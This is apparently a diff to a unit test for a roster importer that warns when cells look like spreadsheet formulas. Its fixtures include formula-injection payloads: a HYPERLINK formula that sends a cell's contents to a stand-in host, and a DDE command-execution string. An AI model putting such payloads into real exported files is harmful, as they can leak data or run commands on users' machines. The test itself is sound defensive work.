@@ -110,8 +110,7 @@ def test_cells_that_look_like_formulas_are_kept_and_flagged_once_per_line() -> N
     assert lines[0].name == '=HYPERLINK("http://x.example/?"&A1,"Ada")'  # kept as written
     warnings = formula_warnings(lines)  # a long cell shown in its first 40 characters
     assert len(warnings) == 3  # one per flagged line: Cy's is plain
-    assert warnings[0].startswith('line 2 (ada): the name “=HYPERLINK("http://x.example/?"&A1,"Ada"…” starts with '
-                                  "“=”; the section “+A” starts with “+”; the SIS User ID “@sis” starts with “@”, "
-                                  "which a spreadsheet may run as a formula")
-    assert warnings[1].startswith("line 3 (bo): the name “-Bo” starts with “-”")
-    assert warnings[2].startswith("line 5 (dee): the name “=cmd|' /C calc'!A0” starts with “=”")  # the tab trimmed
+    assert warnings[0] == ('line 2 (ada): the name “=HYPERLINK("http://x.example/?"&A1,"Ada"…” starts with '
+                       "“=”; the section “+A” starts with “+”; the SIS User ID “@sis” starts with “@”")
+    assert warnings[1] == "line 3 (bo): the name “-Bo” starts with “-”"
+    assert warnings[2] == "line 5 (dee): the name “=cmd|' /C calc'!A0” starts with “=”"  # the tab trimmed
